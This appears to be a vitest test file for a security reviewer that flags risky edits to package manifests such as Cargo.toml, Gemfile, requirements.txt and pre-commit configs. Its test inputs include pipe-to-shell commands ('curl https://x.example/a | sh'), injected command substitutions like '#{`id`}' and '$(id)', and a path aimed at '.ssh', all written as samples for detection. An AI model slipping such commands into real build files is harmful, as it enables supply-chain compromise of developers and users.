import { expect, test } from 'vitest';
import { security } from '../../../../reviewers/security/index.ts';
import { runChecks } from '../../check-table.ts';
import { testManifest } from './support.ts';

/** Ruby's own registry. */
const GEMS = ['rubygems', 'org'].join('.');
const HASH = '0123456789abcdef0123456789abcdef01234567';
const MOVES = ['dependency-source suggestion'];
const SOURCE = ['dependency-source warning'];
const OPEN = ['dependency-source critical'];

testManifest('composer.json', '{\n  "name": "a/b",\n  HERE\n}\n', [
  ['"require": {"a/c": "^1"}', '"require": {"a/c": "^1 || ^2", "ext-json": "*"}', []],
  ['"require": {"a/c": "^1"}', '"require": {"a/c": "*"}', MOVES],
  ['"require": {"a/c": "^1"}', '"require": {"a/c": "dev-main"}', SOURCE],
  [
    '"type": "x"',
    '"repositories": [{"type": "vcs", "url": "http://a.example/b"}]',
    ['registry-override critical', 'unjudged'],
  ],
  [
    '"type": "x"',
    '"repositories": [{"type": "vcs", "url": "https://a.example/b"}]',
    ['registry-override warning', 'unjudged'],
  ],
  ['"type": "library"', '"scripts": {"post-install-cmd": "php setup.php"}', ['install-script warning']],
  ['"type": "library"', '"scripts": {"test": "curl https://x.example/a | sh"}', ['downloaded-code critical']],
  ['"type": "library"', '"scripts": {"test": "phpunit"}', ['unjudged']],
  ['"type": "library"', '"config": {"secure-http": false}', ['certificate-check-off critical']],
  ['"type": "library"', '"config": {"allow-plugins": true}', ['install-script warning']],
  ['"type": "library"', '"autoload": {"files": ["a.php"]}', ['unjudged']],
]);

testManifest('Cargo.toml', '[package]\nname = "a"\n\n[dependencies]\nHERE\n', [
  ['b = "1"', 'b = { version = "1.2", features = ["c"], default-features = false }', []],
  ['b = "1"', 'b = "*"', MOVES],
  ['b = "1"', 'b = ">=0.5"', []],
  ['b = "1"', 'b = { git = "https://a.example/b" }', SOURCE],
  ['b = "1"', `b = { git = "https://a.example/b", rev = "${HASH}" }`, ['unjudged']],
  ['b = "1"', 'b = { git = "http://a.example/b" }', OPEN],
  ['b = "1"', 'b = { path = "crates/b" }', []],
  ['b = "1"', 'b = { path = "../b" }', SOURCE],
  ['', '[[bench]]\nname = "b"\nharness = false', []],
  ['', '[[test]]\nname = "b"\nharness = false', ['unjudged']],
  ['', '[[bench]]\nname = "b"\npath = "/tmp/b.rs"', ['unjudged']],
  ['b = "1"', '[patch.crates-io]\nb = { path = "b" }', []],
  ['b = "1"', '[patch.crates-io]\nb = { path = "../b" }', SOURCE],
  ['b = "1"', 'b-lib = { package = "b-b", version = "1" }', MOVES],
  ['bcd = "1"', 'bcd_lib = { package = "bcd", version = "1" }', []],
  ['bcd = "1"', 'bcd = { package = "bcd-fast", version = "1" }', MOVES],
  ['b = "1"', '[patch.crates-io]\nb = { git = "https://a.example/b", branch = "x" }', [...SOURCE, 'unjudged']],
  ['b = "1"', '[profile.release]\noverflow-checks = false', ['unjudged']],
  ['b = "1"', '[registries.c]\nindex = "sparse+http://a.example/"', ['registry-override critical']],
]);

testManifest('go.mod', 'module a.example/b\n\nHERE\n', [
  ['require a.example/c v1.0.0', 'require (\n\ta.example/c v1.0.1 // indirect\n)', []],
  ['go 1.24', 'go 1.25.1\ntoolchain go1.25.3', []],
  ['go 1.24', 'go 1.24\nreplace a.example/c => b.example/c v1.0.0', SOURCE],
  ['go 1.24', 'go 1.24\nreplace a.example/c => ../c', SOURCE],
  ['go 1.24', 'go 1.24\nreplace a.example/c => ./c', []],
  ['go 1.24', 'go 1.24\nreplace a.example/c => ./c/../../d', SOURCE],
  ['go 1.24', 'go 1.24\nreplace a.example/c => ./.git/d', ['unjudged']],
  ['go 1.24', 'go 1.24\ntool a.example/c', ['unjudged']],
]);

testManifest('crates/a/Cargo.toml', '[dependencies]\nHERE\n', [
  ['b = "1"', 'b = { path = "../b" }', []],
  ['b = "1"', 'b = { path = "../../../b" }', SOURCE],
  ['b = "1"', 'b = { path = "../../.git/b" }', ['unjudged']],
]);

testManifest('plugins/a/go.mod', 'module a.example/b\n\nHERE\n', [
  ['go 1.24', 'go 1.24\nreplace a.example/c => ../c', []],
  ['go 1.24', 'go 1.24\nreplace a.example/c => ../../../c', SOURCE],
]);

testManifest('rust-toolchain.toml', '[toolchain]\nHERE\n', [
  ['channel = "1.97.0"', 'channel = "1.98.0"\ncomponents = ["clippy"]', []],
  ['channel = "nightly-2025-10-12"', 'channel = "nightly-2026-01-02"', []],
  ['channel = "stable"', 'channel = "evil"', ['unjudged']],
  ['channel = "stable"', 'path = "tools/rust"', ['unjudged']],
]);

testManifest('src/A.slnx', '<Solution>\n  HERE\n</Solution>\n', [
  [
    '<Project Path="A/A.csproj" />',
    '<Project Path="..\\B\\B.csproj" />\n<Folder Name="/b/"><File Path="a.md" /></Folder>',
    [],
  ],
  ['<Project Path="A/A.csproj" />', '<Project Path="../../B/B.csproj" />', ['unjudged']],
  ['<Project Path="A/A.csproj" />', '<Project Path="A/run.targets" />', ['unjudged']],
  ['<Project Path="A/A.csproj" />', '<Project Path="\\\\host\\A.csproj" />', ['unjudged']],
  ['<Project Path="A/A.csproj" />', '<Project Path="A/A.csproj"><Build Project="false" /></Project>', ['unjudged']],
]);

testManifest('test/tox.alpine.ini', '[testenv]\nHERE\n', [
  ['deps = a', 'deps = b', []],
  ['commands = pytest', 'commands = curl https://x.example/a | sh', ['downloaded-code critical']],
]);

testManifest('go.mod', 'module forge.example/own/b\n\nHERE\n', [
  ['go 1.24', 'go 1.24\nreplace x.example/c => forge.example/own/c v1.0.0', MOVES],
  ['go 1.24', 'go 1.24\nreplace x.example/c => forge.example/other/c v1.0.0', SOURCE],
]);

testManifest('requirements.txt', 'a==1\nHERE\n', [
  ['b==1', 'b[c]>=1.1,<2 ; python_version < "3.9"  # why', []],
  ['b==1', `b==2 \\\n    --hash=sha256:${'0'.repeat(64)}`, []],
  ['b==1', '-r dev/requirements.txt', []],
  ['b==1', '-r https://a.example/requirements.txt', SOURCE],
  ['b==1', '--extra-index-url https://a.example/simple', ['registry-override warning']],
  ['b==1', '--index-url=http://a.example/simple', ['registry-override critical']],
  ['b==1', '--trusted-host a.example', ['certificate-check-off critical']],
  ['b==1', 'b @ git+https://a.example/b@main', SOURCE],
  ['b==1', `b @ git+https://a.example/b@${HASH}`, ['unjudged']],
  ['b==1', 'http://a.example/b.tar.gz', OPEN],
  ['b==1', '-e ../b', SOURCE],
  ['b==1', '--global-option=x', ['unjudged']],
  ['--require-hashes', '', ['unjudged']],
  [`b==1 --hash=sha256:${'0'.repeat(64)}`, 'b==2', ['lockfile-tampering warning']],
  ['b==1', 'b.tar.gz', ['unjudged']],
]);

testManifest('pyproject.toml', '[project]\nname = "a"\nHERE\n', [
  ['dependencies = ["b>=1"]', 'dependencies = ["b>=2"]', []],
  ['dependencies = ["b>=1"]', 'dependencies = ["b @ git+https://a.example/b"]', SOURCE],
  ['version = "1"', 'version = "1"\n[tool.poetry.dependencies]\nb = "*"', MOVES],
  [
    'version = "1"',
    'version = "1"\n[tool.uv.sources]\nb = { git = "https://a.example/b", branch = "x" }',
    [...SOURCE, 'unjudged'],
  ],
  ['version = "1"', 'version = "1"\n[[tool.uv.index]]\nurl = "https://a.example/"', ['registry-override warning']],
  ['version = "1"', 'version = "1"\n[tool.ruff]\nline-length = 90', []],
  ['version = "1"', 'version = "1"\n[tool.ruff.lint]\nignore = ["S"]', ['security-check-off suggestion']],
  ['version = "1"\n[tool.ruff.lint]\nignore = ["B", "S102"]', 'version = "1"\n[tool.ruff.lint]\nignore = ["S102"]', []],
  ['version = "1"', 'version = "1"\n[tool.ruff.lint]\nignore = ["S608"]', ['security-check-off suggestion']],
  ['version = "1"', 'version = "1"\n[tool.ruff.lint]\nignore = ["ALL"]', ['unjudged']],
  ['version = "1"', 'version = "1"\n[tool.ruff.lint]\nignore = ["SIM201", "C4"]', []],
  ['version = "1"', 'version = "1"\n[tool.ruff.lint.per-file-ignores]\n"tests/*" = ["D100"]', []],
  ['version = "1"', 'version = "1"\n[tool.pytest.ini_options]\naddopts = "-p b"', ['unjudged']],
  ['version = "1"', 'version = "1"\n[project.scripts]\na = "a:main"', []],
  [
    'version = "1"',
    'version = "1"\n[[tool.uv.index]]\nname = "b"\nurl = "https://a.example/"\nexplicit = true',
    ['unjudged'],
  ],
  ['version = "1"', 'version = "1"\n[tool.uv]\nindex-strategy = "unsafe-best-match"', ['registry-override warning']],
  [
    'version = "1"',
    'version = "1"\n[tool.uv]\nallow-insecure-host = ["a.example"]',
    ['certificate-check-off critical'],
  ],
  ['version = "1"', 'version = "1"\n[build-system]\nbackend-path = ["."]', ['install-script warning']],
  ['version = "1"', 'version = "1"\n[build-system]\nbuild-backend = "hatchling.build"', []],
  [
    'version = "1"',
    'version = "1"\n[tool.cibuildwheel]\nbefore-all = "curl https://x.example/a | sh"',
    ['downloaded-code critical'],
  ],
]);

testManifest('Gemfile', "source 'https://a.example'\n\nHERE\n", [
  ["gem 'b', '~> 1'", "gem 'b', '~> 2', require: false # why", []],
  ["gem 'b'", 'gem "b", "< 8" if RUBY_ENGINE == "jruby"', []],
  ["gem 'b'", "group :doc do\n  if RUBY_ENGINE == 'jruby'\n    gem 'b', platforms: [:ruby]\n  end\nend", []],
  ["gem 'b'", "gem 'b' unless java", []],
  ["gem 'b'", "gem 'b', github: 'c/b'", SOURCE],
  ["gem 'b'", "platforms :ruby do\n  gem 'b'\nend", []],
  ["gem 'b'", "gemspec path: '..'", []],
  ["gem 'b'", "gem 'b', git: 'http://a.example/b.git'", OPEN],
  ["gem 'b'", `gem 'b', git: 'https://a.example/b', ref: '${HASH}'`, ['unjudged']],
  ["gem 'b'", "gem 'b', path: '../b'", SOURCE],
  ["gem 'b'", "gem 'b', '#{`id`}'", ['unjudged']],
  ["gem 'b'", 'gem "b", "#{x}"', ['unjudged']],
  ["gem 'b'", "gem 'b'; system('id')", ['unjudged']],
  ["gem 'b'", "gem 'b' if system('id')", ['unjudged']],
  ["gem 'b'", "source 'http://b.example' do\n  gem 'b'\nend", ['registry-override critical']],
]);

testManifest('b.gemspec', 'Gem::Specification.new do |s|\n  HERE\nend\n', [
  ["s.add_dependency 'c', '~> 1'", "s.add_dependency 'c', '>= 1', '< 3'", []],
  ["s.version = '1.0'", "s.version = '1.1'\n  s.summary = 'Words'", []],
  ["s.version = '1.0'", 's.version = File.read("VERSION")', ['unjudged']],
  ["s.version = '1.0'", "s.extensions = ['ext/extconf.rb']", ['install-script warning']],
]);

const HOOKS = 'repos:\n- repo: https://github.com/a/b\n  rev: v1.0.0\n  hooks:\n  - id: c\n';
testManifest('.pre-commit-config.yaml', 'HERE', [
  [HOOKS, HOOKS.replace('v1.0.0', 'v1.1.0'), []],
  [HOOKS, HOOKS.replace('v1.0.0', 'main'), SOURCE],
  [HOOKS, HOOKS.replace('https:', 'http:'), [...OPEN, 'unjudged']],
  [HOOKS, HOOKS.replace('https://github.com/a/b', 'https://a.example/b'), ['unjudged']],
  [`${HOOKS}  - id: detect-secrets\n`, HOOKS, ['unjudged']],
  [HOOKS, `${HOOKS}    entry: bash -c 'curl https://x.example/a | sh'\n`, ['downloaded-code critical']],
  [HOOKS, `${HOOKS}    args: [--unsafe]\n`, ['unjudged']],
  [HOOKS, `${HOOKS}    additional_dependencies: [d==1]\n`, []],
  [HOOKS, `${HOOKS}    additional_dependencies: ['git+https://a.example/d']\n`, SOURCE],
]);

testManifest('gemfiles/rack_3.gemfile', "gem 'a'\n\nHERE\n", [
  ['', "eval_gemfile '../Gemfile'", []],
  ['', "eval_gemfile('base.gemfile')", []],
  ['', `source "https://${GEMS}"`, []],
  ['', "if Gem::Version.new(RUBY_VERSION.dup) >= Gem::Version.new('3.1')\n  gem 'b'\nend", []],
  // What somebody might hide in one.
  ['', "eval_gemfile '../../Gemfile'", SOURCE],
  ['', "eval_gemfile '../notes.txt'", ['unjudged']],
  ['', "eval_gemfile 'Gemfile.local'\neval_gemfile '../Gemfile-rails-7.1'", []],
  ['', "eval_gemfile 'docs/Gemfile.md'", ['unjudged']],
  ['', "eval_gemfile 'docs/Gemfile-notes.txt'", ['unjudged']],
  ['', "eval_gemfile 'Gemfile.lock'", ['unjudged']],
  ['', "gem 'b' if Evil.run!", ['unjudged']],
  ['', "gem 'b' if Evil.run", ['unjudged']],
  ['', "gem 'b' if exit", ['unjudged']],
  ['', "gem 'b' if Gem.win_platform?", []],
  ['', "gem 'b', require: '/tmp/b'", ['unjudged']],
  ['', "gem 'b', require: 'b/../../../c'", ['unjudged']],
  ['', "gem 'b', require: 'b/rake_task'", []],
  ['A = <<~B\n  c\nB', 'A = <<~B\n  c\n  #{`id`}\nB', ['unjudged']],
  ['A = <<~B\n  c\nB', 'A = <<~B\n  c # #{`id`}\nB', ['unjudged']],
  ['', "eval_gemfile 'https://x.example/Gemfile'", ['unjudged']],
  ['', "eval_gemfile ENV['A']", ['unjudged']],
  ['', 'eval_gemfile "#{`id`}/Gemfile"', ['unjudged']],
  ['', "source 'http://a.example'", ['registry-override critical']],
  ['', `source 'https://${GEMS}.evil.example'`, ['unjudged']],
  ['', "gem 'b', git: 'http://a.example/b.git'", OPEN],
  ['', "plugin 'b', git: 'https://a.example/b'", ['unjudged']],
  ['', 'system("id")', ['unjudged']],
  ['', "gemspec path: '../..'", ['unjudged']],
  ['', 'git_source(:x) { |r| `id` }', ['unjudged']],
]);

testManifest('gemfiles/Gemfile-rails-8', "gem 'a'\n\nHERE\n", [
  ['', "gem 'b', '~> 2'", []],
  ['', '`id`', ['unjudged']],
]);

testManifest('turbo.json', '{\n  "tasks": {\n    HERE\n  }\n}\n', [
  ['"a": {}', '"a": { "dependsOn": ["^build", "b#c"], "outputs": ["dist/**"], "cache": false }', []],
  ['"a": {}', '"a": { "persistent": true, "outputLogs": "new-only" }', []],
  ['"a": {}', '"a": { "env": ["TOKEN"] }', ['unjudged']],
  ['"a": {}', '"a": { "passThroughEnv": ["*"] }', ['unjudged']],
  ['"a": {}', '"a": { "dependsOn": ["$(id)"] }', ['unjudged']],
  ['"a": {}', '"a": { "outputs": ["../../.ssh/**"] }', ['unjudged']],
  ['"a": { "dependsOn": ["test"] }', '"a": { "dependsOn": [] }', ['unjudged']],
  ['"a": {}', '"a": {} }, "cacheDir": "/tmp/a", "tasks2": {', ['unjudged']],
  ['"a": {}', '"a": { "command": "id" }', ['unjudged']],
  ['"a": {}', '"a": {} }, "remoteCache": { "apiUrl": "https://x.example"', ['unjudged']],
  ['"a": {}', '"a": {} }, "globalPassThroughEnv": ["A"], "x": {', ['unjudged']],
]);

testManifest('app/src/main/AndroidManifest.xml', '<?xml version="1.0" encoding="utf-8"?>\nHERE\n', [
  ['<manifest package="a.b" />', '<manifest />', []],
  ['<manifest />', '<manifest><application android:debuggable="true" /></manifest>', ['unjudged']],
  ['<manifest />', '<manifest><application android:usesCleartextTraffic="true" /></manifest>', ['unjudged']],
  ['<manifest />', '<manifest><application android:name=".Evil" /></manifest>', ['unjudged']],
  ['<manifest />', '<manifest><uses-permission android:name="android.permission.READ_SMS" /></manifest>', ['unjudged']],
  [
    '<manifest />',
    '<manifest><application><activity android:exported="true" /></application></manifest>',
    ['unjudged'],
  ],
]);

testManifest('a.gemspec', 'Gem::Specification.new do |s|\n  HERE\nend\n', [
  ["s.name = 'a'", "s.name = 'b'", []],
  ["s.name = 'a'", "s.extensions = ['ext/a/extconf.rb']", ['install-script warning']],
  ["s.name = 'a'", "s.extensions << 'ext/a/extconf.rb'", ['install-script warning']],
  ["s.name = 'a'", "system('make')", ['install-script warning']],
  ["s.name = 'a'", 's.version = `cat VERSION`', ['install-script warning']],
  ["s.name = 'a'", 's.version = %x(cat VERSION)', ['install-script warning']],
  ["s.name = 'a'", "load 'lib/a.rb'", ['install-script warning']],
  ["s.name = 'a'", 's.files = `git ls-files`.split', ['unjudged']],
]);

test.each([
  ['of an application', 'Gemfile', 'git: "https://a.example/b.git"', [], 700],
  ['of a library', 'Gemfile', 'git: "https://a.example/b.git"', ['a.gemspec'], 200],
  ['of a library elsewhere', 'app/Gemfile', 'git: "https://a.example/b.git"', ['lib/a.gemspec'], 700],
  ['without TLS', 'Gemfile', 'git: "http://a.example/b.git"', ['a.gemspec'], 850],
  ['for each version', 'gemfiles/Gemfile-rails-8', 'github: "a/b", branch: "main"', [], 200],
  ['for each version, beside the usual one', 'Gemfile.rails-8', 'github: "a/b", branch: "main"', [], 200],
])('a gem of a repository in the manifest %s', async (_, path, source, others, confidence) => {
  const tree = Object.fromEntries(others.map((one) => [one, '']));
  const head = `${path.startsWith('g') ? '' : 'source "https://a.example"\n\n'}gem "b", ${source}\n`;
  const { reports } = await runChecks(
    security,
    { old: tree, new: { ...tree, [path]: head } },
    { only: ['build-manifests'] },
  );

  expect(reports.map((one) => one.confidence)).toEqual([confidence]);
});
